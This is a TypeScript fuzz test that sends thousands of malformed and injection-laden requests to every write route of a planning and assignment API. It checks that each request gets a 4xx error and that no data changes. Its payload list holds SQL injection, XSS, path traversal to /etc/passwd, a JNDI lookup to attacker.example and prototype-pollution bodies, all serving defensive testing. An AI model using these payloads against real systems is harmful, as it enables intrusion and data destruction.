/**
 * Hostile input against every write route on the real stack: thousands of generated bodies
 * (fast-check), each broken in at least one way — an unknown field, a required field of the
 * wrong type, an injection-shaped or oversized value where a format is required — with more
 * injection-shaped noise in the free-text fields, plus malformed and oversized raw bodies and
 * hostile path segments. Sent as an admin, so every request reaches validation.
 *
 * Every answer must be a 4xx problem document, and afterwards every table and every
 * workflow history must be exactly as before.
 */
import fc from 'fast-check';
import { routes } from '../../api/routes';
import { startStack, type Stack } from '../../harness/stack';
import { plan925 } from '../support/fixtures';
import { assignmentWorkflowStarted, httpClient, type HttpAnswer } from '../support/http';

const RUNS_PER_ROUTE = 150;

const injections = [
  "'; DROP TABLE units; --",
  '" OR "1"="1',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '\u0000\u0001\u001f',
  '\ud800',
  'Robert"); DELETE FROM assignments; --',
  '%00%27%22',
  '\u202etxt.exe',
  'x'.repeat(300),
];

let stack: Stack;
let admin: ReturnType<typeof httpClient>;
let adminToken: string;
const ids: Record<string, string> = {};

beforeAll(async () => {
  stack = await startStack();
  adminToken = (await stack.signIn('admin')).token;
  admin = httpClient(stack.baseUrl, adminToken);
  for (const unit of [
    { code: 'SO-VHTTDL', name: 'Sở Văn hóa, Thể thao và Du lịch', kind: 'department' },
    { code: 'X-HAMON', name: 'Ủy ban nhân dân xã Hà Mòn', kind: 'commune' },
    { code: 'X-DAKMAR', name: 'Ủy ban nhân dân xã Đắk Mar', kind: 'commune' },
  ]) {
    expect((await admin.post('/units', unit)).status).toBe(201);
  }
  const plan = await admin.post(
    '/plans',
    plan925({
      assigningUnit: 'SO-VHTTDL',
      tasks: [{ code: 'NV1', title: 'Tập huấn kỹ năng phòng, chống bạo lực gia đình', kind: 'training', leadUnit: 'X-HAMON', deadline: '2030-06-30' }],
    }),
  );
  ids.plan = plan.body.id;
  ids.assignment = (await admin.get(`/plans/${ids.plan}`)).body.tasks[0].assignments[0].id;
  await assignmentWorkflowStarted(admin, ids.assignment!);
  ids.proposal = (await admin.post(`/plans/${ids.plan}/proposals`, { unit: 'X-HAMON', title: 'Hội thi gia đình văn hóa', kind: 'commemoration', deadline: '2030-03-20' })).body.id;
  ids.apiKey = (await admin.post('/api-keys', { name: 'Hệ thống văn bản', role: 'leader' })).body.id;
});

afterAll(async () => {
  await stack?.stop();
});

/** A valid body per write route; `formats` are fields whose format no injection string satisfies. */
const templates: Record<string, { body: Record<string, unknown>; required: string[]; formats: string[] }> = {
  'POST /plans': {
    body: plan925({ code: '99/KH-UBND', tasks: [{ code: 'NV1', title: 'Tuyên truyền', kind: 'campaign', leadUnit: 'X-HAMON', deadline: '2030-01-10' }] }),
    required: ['code', 'title', 'tasks', 'issuedOn'],
    formats: ['issuedOn', 'code'],
  },
  'POST /plans/:id/proposals': {
    body: { unit: 'X-HAMON', title: 'Liên hoan gia đình', kind: 'commemoration', deadline: '2030-03-20' },
    required: ['title', 'kind', 'deadline'],
    formats: ['unit', 'kind', 'deadline'],
  },
  'POST /plans/:id/proposals/:rid/approve': { body: { note: 'Đồng ý' }, required: [], formats: [] },
  'POST /plans/:id/proposals/:rid/reject': { body: { note: 'Chưa phù hợp' }, required: [], formats: [] },
  'POST /units': { body: { code: 'X-MOI', name: 'Xã mới', kind: 'commune' }, required: ['code', 'name', 'kind'], formats: ['code', 'kind', 'parentCode', 'email'] },
  'POST /units/import': { body: { units: [{ code: 'X-MOI', name: 'Xã mới', kind: 'commune' }] }, required: ['units'], formats: [] },
  'PATCH /units/:id': { body: { name: 'Ủy ban nhân dân xã Hà Mòn (mới)' }, required: [], formats: ['parentCode', 'email', 'kind'] },
  'POST /units/:id/merge': { body: { into: 'X-DAKMAR', reason: 'Sáp nhập' }, required: ['into', 'reason'], formats: ['into'] },
  'POST /assignments/:id/activities': {
    body: { kind: 'training', date: '2024-05-10', place: 'Hội trường UBND xã', organiser: 'Sở VHTTDL', audience: 'family_officials', plannedParticipants: 40, actualParticipants: 38 },
    required: ['kind', 'date', 'place'], // text fields: a number is a valid count, not a wrong type
    formats: ['kind', 'date', 'audience'],
  },
  'POST /assignments/:id/extension-requests': { body: { deadline: '2030-12-31', reason: 'Chờ kinh phí' }, required: ['deadline', 'reason'], formats: ['deadline'] },
  'POST /assignments/:id/extension-requests/:rid/approve': { body: { note: 'Đồng ý' }, required: [], formats: [] },
  'POST /assignments/:id/extension-requests/:rid/reject': { body: { note: 'Không' }, required: [], formats: [] },
  'POST /assignments/:id/reassign': { body: { unit: 'X-DAKMAR', reason: 'Điều chỉnh' }, required: ['unit', 'reason'], formats: ['unit'] },
  'POST /assignments/:id/start': { body: { note: 'Bắt đầu' }, required: [], formats: [] },
  'POST /assignments/:id/submit': {
    body: { summary: 'Đã tập huấn', figures: { participants: 40 }, evidence: ['https://vanban.example.vn/a.pdf'] },
    required: ['summary'],
    formats: ['evidence'],
  },
  'POST /assignments/:id/approve': { body: { note: 'Đạt' }, required: [], formats: [] },
  'POST /assignments/:id/return': { body: { reason: 'Bổ sung' }, required: ['reason'], formats: [] },
  'POST /assignments/:id/complete': { body: { summary: 'Đã xong' }, required: ['summary'], formats: [] },
  'POST /assignments/:id/cancel': { body: { reason: 'Điều chỉnh' }, required: ['reason'], formats: [] },
  'POST /accounts': {
    body: { username: 'canbo.moi', displayName: 'Cán bộ mới', role: 'unit_officer', unit: 'X-HAMON', password: 'mot-mat-khau-dai' },
    required: ['username', 'displayName', 'role', 'password'],
    formats: ['role', 'unit'],
  },
  'POST /api-keys': { body: { name: 'Tích hợp', role: 'leader' }, required: ['name', 'role'], formats: ['role', 'unit'] },
  'DELETE /api-keys/:id': { body: {}, required: [], formats: [] }, // path only
  'POST /auth/login': { body: { username: 'admin', password: 'sai-mat-khau' }, required: ['username', 'password'], formats: [] },
};

const writeRoutes = [...routes.filter((route) => route.method !== 'get').map((route) => `${route.method.toUpperCase()} ${route.path}`), 'POST /auth/login'];

const concretePath = (path: string) =>
  path
    .replace(':id/proposals/:rid', `${ids.plan}/proposals/${ids.proposal}`)
    .replace('/plans/:id', `/plans/${ids.plan}`)
    .replace('extension-requests/:rid', 'extension-requests/00000000-0000-4000-8000-000000000000')
    .replace('/assignments/:id', `/assignments/${ids.assignment}`)
    .replace('/api-keys/:id', `/api-keys/${ids.apiKey}`)
    .replace('/units/:id', '/units/X-HAMON');

const injection = fc.constantFrom(...injections);
const wrongType = fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.array(fc.integer(), { maxLength: 3 }), fc.object({ maxDepth: 2 }));
const oversized = fc.integer({ min: 11_000, max: 200_000 }).map((length) => 'ạ'.repeat(length));

/** One broken body: a guaranteed violation, plus noise that may or may not be valid on its own. */
function hostileBody(key: string): fc.Arbitrary<unknown> {
  const { body, required, formats } = templates[key]!;
  const violations: fc.Arbitrary<Record<string, unknown>>[] = [
    fc.tuple(fc.string({ minLength: 1, maxLength: 20 }).filter((name) => !(name in body) && name !== '__proto__'), fc.jsonValue()).map(([name, value]) => ({ ...body, [name]: value })),
  ];
  if (required.length > 0) {
    violations.push(fc.tuple(fc.constantFrom(...required), wrongType).map(([field, value]) => ({ ...body, [field]: value })));
    violations.push(fc.constantFrom(...required).map((field) => Object.fromEntries(Object.entries(body).filter(([name]) => name !== field))));
    violations.push(fc.tuple(fc.constantFrom(...required), oversized).map(([field, value]) => ({ ...body, [field]: value })));
  }
  if (formats.length > 0) violations.push(fc.tuple(fc.constantFrom(...formats), injection).map(([field, value]) => ({ ...body, [field]: value })));
  const noise = fc.array(fc.tuple(fc.constantFrom(...Object.keys(body), 'note', 'reason'), fc.oneof(injection, fc.string())), { maxLength: 3 });
  return fc
    .tuple(fc.oneof(...violations), noise)
    .map(([broken, extra]) => {
      // Noise never replaces the violation itself.
      const safeExtra = extra.filter(([field]) => broken[field] === body[field] && field in broken);
      return { ...broken, ...Object.fromEntries(safeExtra) };
    })
}

async function send(method: string, url: string, body: string | undefined, contentType = 'application/json'): Promise<HttpAnswer> {
  const response = await fetch(`${stack.baseUrl}${url}`, {
    method,
    headers: { authorization: `Bearer ${adminToken}`, ...(body !== undefined && { 'content-type': contentType }) },
    body,
  });
  const text = await response.text();
  let parsed: unknown;
  try {
    parsed = text ? JSON.parse(text) : undefined;
  } catch {
    parsed = text;
  }
  return { status: response.status, contentType: response.headers.get('content-type') ?? '', headers: response.headers, body: parsed };
}

/** Every row of every table, hashed, and every workflow's history length. */
async function snapshot() {
  const tables = await stack.db.$queryRaw<{ name: string }[]>`
    SELECT tablename AS name FROM pg_tables WHERE schemaname = 'public' AND tablename <> '_prisma_migrations' ORDER BY tablename`;
  const rows: Record<string, string> = {};
  for (const { name } of tables) {
    const [row] = await stack.db.$queryRawUnsafe<{ digest: string | null; count: bigint }[]>(
      `SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) AS digest, count(*) AS count FROM "${name}" t`,
    );
    rows[name] = `${row!.count}:${row!.digest}`;
  }
  const histories: Record<string, number> = {};
  for await (const workflow of stack.temporal.workflow.list()) histories[workflow.workflowId] = workflow.historyLength;
  return { rows, histories };
}

describe('hostile input', () => {
  it('has a template for every write route', () => {
    expect([...writeRoutes].sort()).toEqual(Object.keys(templates).sort());
  });

  it('answers every malformed request with a 4xx problem document and changes nothing', async () => {
    const before = await snapshot();
    const failures: string[] = [];
    const statuses = new Map<number, number>();
    let sent = 0;
    const check = (what: string, answer: HttpAnswer) => {
      sent += 1;
      statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
      const problem = answer.body as { type?: unknown; status?: unknown; detail?: unknown } | undefined;
      const ok =
        answer.status >= 400 &&
        answer.status < 500 &&
        answer.contentType.startsWith('application/problem+json') &&
        typeof problem?.type === 'string' &&
        problem.status === answer.status &&
        typeof problem.detail === 'string' &&
        !JSON.stringify(problem).includes('    at ');
      if (!ok && failures.length < 20) failures.push(`${what}: ${answer.status} ${JSON.stringify(answer.body).slice(0, 200)}`);
    };

    for (const [index, key] of writeRoutes.entries()) {
      const [method, path] = key.split(' ') as [string, string];
      const url = concretePath(path);
      // A DELETE reads no body: only its path can be hostile.
      const bodies = method === 'DELETE' ? [] : fc.sample(hostileBody(key), { numRuns: RUNS_PER_ROUTE, seed: 20261123 + index });
      for (const body of bodies) check(`${key} ${JSON.stringify(body).slice(0, 120)}`, await send(method, url, JSON.stringify(body)));

      const raw: [string, string | undefined, string?][] = [
        ['truncated JSON', '{"summary": '],
        ['a JSON string', '"complete"'],
        ['JSON null', 'null'],
        ['an array', '[1,2,3]'],
        ['deep nesting', '['.repeat(5_000) + ']'.repeat(5_000)],
        ['over the size limit', JSON.stringify({ summary: 'x'.repeat(1_100_000) })],
        ['form-encoded', 'summary=x&__proto__=1', 'application/x-www-form-urlencoded'],
        ['prototype pollution', '{"__proto__": {"admin": true}, "constructor": {"prototype": {"x": 1}}}'],
      ];
      for (const [what, body, contentType] of raw) {
        if (method === 'DELETE') continue;
        check(`${key} ${what}`, await send(method, url, body, contentType));
      }
      for (const segment of injections.slice(0, 6)) {
        if (!path.includes(':')) continue;
        const hostileUrl = url.replace(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}|X-HAMON/, encodeURIComponent(segment));
        check(`${key} path ${segment}`, await send(method, hostileUrl, method === 'DELETE' ? undefined : JSON.stringify(templates[key]!.body)));
      }
    }

    const after = await snapshot();
    const changedTables = Object.keys(before.rows).filter((table) => before.rows[table] !== after.rows[table]);
    const changedWorkflows = Object.keys(after.histories).filter((id) => before.histories[id] !== after.histories[id]);
    process.stdout.write(
      `hostile input: ${sent} requests to ${writeRoutes.length} write routes; answers ${JSON.stringify(Object.fromEntries(statuses))}; ` +
        `5xx: ${[...statuses].filter(([status]) => status >= 500).reduce((sum, [, count]) => sum + count, 0)}; ` +
        `tables changed: ${changedTables.length}; workflow histories changed: ${changedWorkflows.length}\n`,
    );
    expect(failures).toEqual([]);
    expect(sent).toBeGreaterThan(2_500);
    expect(changedTables).toEqual([]);
    expect(changedWorkflows).toEqual([]);
    expect(Object.keys(after.histories).sort()).toEqual(Object.keys(before.histories).sort());
  });
});
